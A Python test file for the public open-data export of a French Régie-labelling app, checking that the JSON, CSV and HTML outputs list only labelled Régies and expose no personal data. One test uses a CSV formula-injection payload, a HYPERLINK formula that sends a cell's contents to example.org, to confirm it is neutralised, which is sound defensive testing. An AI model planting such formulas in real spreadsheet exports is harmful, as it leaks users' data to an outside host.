"""The open data: the labelled Régies as a page, JSON and CSV, for anyone without signing in,
holding only labelled Régies and nothing personal."""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy import Engine

from labelflow import dates
from labelflow.models import User
from labelflow.open_data import LabelledRegie
from labelflow.spreadsheets import dangerous
from labelflow.web.open_data.present import summary
from tests.conftest import make_user
from tests.factories import (
    TERRITOIRE,
    add_stakeholder,
    create_project,
    create_user,
    decide,
    fire,
    walk_to,
)

JSON_URL = "/api/v1/open-data/regies"
CSV_URL = "/open-data/regies.csv"
HOSTILE_NAME = '=HYPERLINK("https://example.org/?"&A1;"Régie")'


def label(client: Any, project: dict[str, Any]) -> dict[str, Any]:
    project = walk_to(client, project, "decision_bureau")
    decide(client, project["id"], "attribution")
    return fire(client, project["id"], "attribuer_label")


def network(client: Any, db: Engine, staff_user: User) -> dict[str, Any]:
    """Two labelled Régies, one refused, one abandoned, one under way, with people in them."""
    porteur = create_user(client, "porteur", name="Awa Diallo", email="awa.diallo@example.org")
    quartier = create_project(client, name="Régie de quartier de l'Alma")
    client.post(f"/api/v1/projects/{quartier['id']}/members", json={"user_id": porteur["id"]})
    add_stakeholder(client, quartier["id"], "habitants")
    contact = client.post(
        f"/api/v1/projects/{quartier['id']}/stakeholders",
        json={
            "name": "Amicale des locataires",
            "college": "habitants",
            "engaged_on": dates.today().isoformat(),
            "contact": "Jeanne Martin, 06 12 34 56 78",
        },
    )
    assert contact.status_code == 201, contact.text
    quartier = label(client, quartier)
    territoire = label(client, create_project(client, kind="territoire"))
    refused = walk_to(client, create_project(client, name="Régie refusée"), "decision_bureau")
    decide(client, refused["id"], "refus", motivation="Le modèle économique est fragile.")
    fire(client, refused["id"], "refuser_label", comment="Modèle économique fragile.")
    abandoned = create_project(client, name="Régie abandonnée")
    fire(client, abandoned["id"], "abandonner", comment="Le projet s'arrête.")
    create_project(client, name="Régie en projet")
    people = [u["name"] for u in client.get("/api/v1/users").json() if u["role"] != "staff"] + [
        staff_user.name,
        "Awa Diallo",
    ]
    emails = [u["email"] for u in client.get("/api/v1/users").json()]
    contacts = [
        s["contact"]
        for p in (quartier, territoire)
        for s in client.get(f"/api/v1/projects/{p['id']}/stakeholders").json()
        if s.get("contact")
    ]
    assert "Jeanne Martin, 06 12 34 56 78" in contacts
    return {
        "labelled": [quartier, territoire],
        "personal": [*people, *emails, *contacts],
    }


def test_anyone_reads_the_labelled_regies_and_nothing_personal(
    client: Any, anonymous: Any, db: Engine, staff_user: User
) -> None:
    made = network(client, db, staff_user)
    quartier, territoire = made["labelled"]
    assert quartier["label_number"] and territoire["label_number"]
    # Without any credential (the staff client's token is not sent).
    anonymous.headers.pop("Authorization", None)

    response = anonymous.get(JSON_URL)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["total"] == 2
    by_number = {r["label_number"]: r for r in body["items"]}
    assert set(by_number) == {quartier["label_number"], territoire["label_number"]}
    today = dates.today().isoformat()
    assert by_number[territoire["label_number"]] == {
        "name": TERRITOIRE["name"],
        "kind": "territoire",
        "kind_label": "Régie de Territoire",
        "communes": TERRITOIRE["communes"],
        "region": "Normandie",
        "label_number": territoire["label_number"],
        "labelled_on": today,
    }
    assert by_number[quartier["label_number"]]["communes"] == [
        {"insee": "59512", "name": "Roubaix"}
    ]
    assert set(body["items"][0]) == {
        "name",
        "kind",
        "kind_label",
        "communes",
        "region",
        "label_number",
        "labelled_on",
    }

    csv_response = anonymous.get(CSV_URL)
    assert csv_response.status_code == 200
    assert csv_response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in csv_response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(csv_response.text, newline="")))
    assert {r["label_number"] for r in rows} == set(by_number)
    [row] = [r for r in rows if r["kind"] == "territoire"]
    assert row == {
        "name": TERRITOIRE["name"],
        "kind": "territoire",
        "kind_label": "Régie de Territoire",
        "communes": "Forges-les-Eaux;Gournay-en-Bray",
        "insee_codes": "76276;76312",
        "region": "Normandie",
        "label_number": territoire["label_number"],
        "labelled_on": today,
    }

    page = anonymous.get("/regies")
    assert page.status_code == 200
    html = page.text
    assert "<h1>Régies labellisées</h1>" in html
    for name in ("Régie de quartier de l&#39;Alma", "Régie de territoire du Pays de Bray"):
        assert name in html
    assert quartier["label_number"] in html and territoire["label_number"] in html
    assert 'Gournay-en-Bray <span class="muted">(76312)</span>' in html
    assert f'href="{JSON_URL}"' in html and f'href="{CSV_URL}"' in html
    for not_labelled in ("Régie refusée", "Régie abandonnée", "Régie en projet"):
        assert not_labelled not in html + response.text + csv_response.text

    for text in (response.text, csv_response.text, html):
        for personal in made["personal"]:
            assert personal not in text, personal
        assert "@" not in text  # no e-mail address of anyone


def test_no_regie_labelled_yet(anonymous: Any) -> None:
    assert anonymous.get(JSON_URL).json() == {"items": [], "total": 0}
    response = anonymous.get(CSV_URL)
    assert response.text == (
        "name,kind,kind_label,communes,insee_codes,region,label_number,labelled_on\r\n"
    )
    assert "Aucune Régie n'est encore labellisée." in anonymous.get("/regies").text


def test_a_hostile_name_is_text_in_the_csv_and_the_page(client: Any, anonymous: Any) -> None:
    label(client, create_project(client, name=HOSTILE_NAME, region="+Hauts-de-France"))
    anonymous.headers.pop("Authorization", None)
    rows = list(csv.DictReader(io.StringIO(anonymous.get(CSV_URL).text, newline="")))
    assert rows[0]["name"] == "'" + HOSTILE_NAME
    assert rows[0]["region"] == "'+Hauts-de-France"
    assert not any(dangerous(v) for v in rows[0].values())
    assert anonymous.get(JSON_URL).json()["items"][0]["name"] == HOSTILE_NAME  # JSON: as is
    assert "=HYPERLINK(&#34;https" in anonymous.get("/regies").text


def test_every_role_reads_the_open_data(client_as: Any, db: Engine, anonymous: Any) -> None:
    for role in ("staff", "porteur", "consultant", "bureau"):
        other = client_as(make_user(db, role=role))
        for url in (JSON_URL, CSV_URL, "/regies"):
            assert other.get(url).status_code == 200, (role, url)


def test_every_page_links_to_the_open_data(client: Any, anonymous: Any) -> None:
    assert 'href="/regies"' in client.get("/").text
    assert 'href="/regies"' in anonymous.get("/login").text


def test_the_open_data_is_documented_in_the_api_schema(anonymous: Any) -> None:
    paths = anonymous.get("/openapi.json").json()["paths"]
    assert "security" not in paths[JSON_URL]["get"]
    assert CSV_URL in paths[JSON_URL]["get"]["description"]
    assert CSV_URL not in paths and "/regies" not in paths


def test_the_page_counts_the_regies_in_french() -> None:
    def regie(kind: str) -> LabelledRegie:
        return LabelledRegie("R", kind, (), "Normandie", "RQ-2026-001", dates.today())

    assert summary([]) == "0 Régie labellisée par le Mouvement des Régies."
    assert summary([regie("quartier")]) == (
        "1 Régie labellisée par le Mouvement des Régies : 1 Régie de Quartier."
    )
    assert summary([regie("quartier"), regie("territoire"), regie("territoire")]) == (
        "3 Régies labellisées par le Mouvement des Régies : 1 Régie de Quartier et "
        "2 Régies de Territoire."
    )
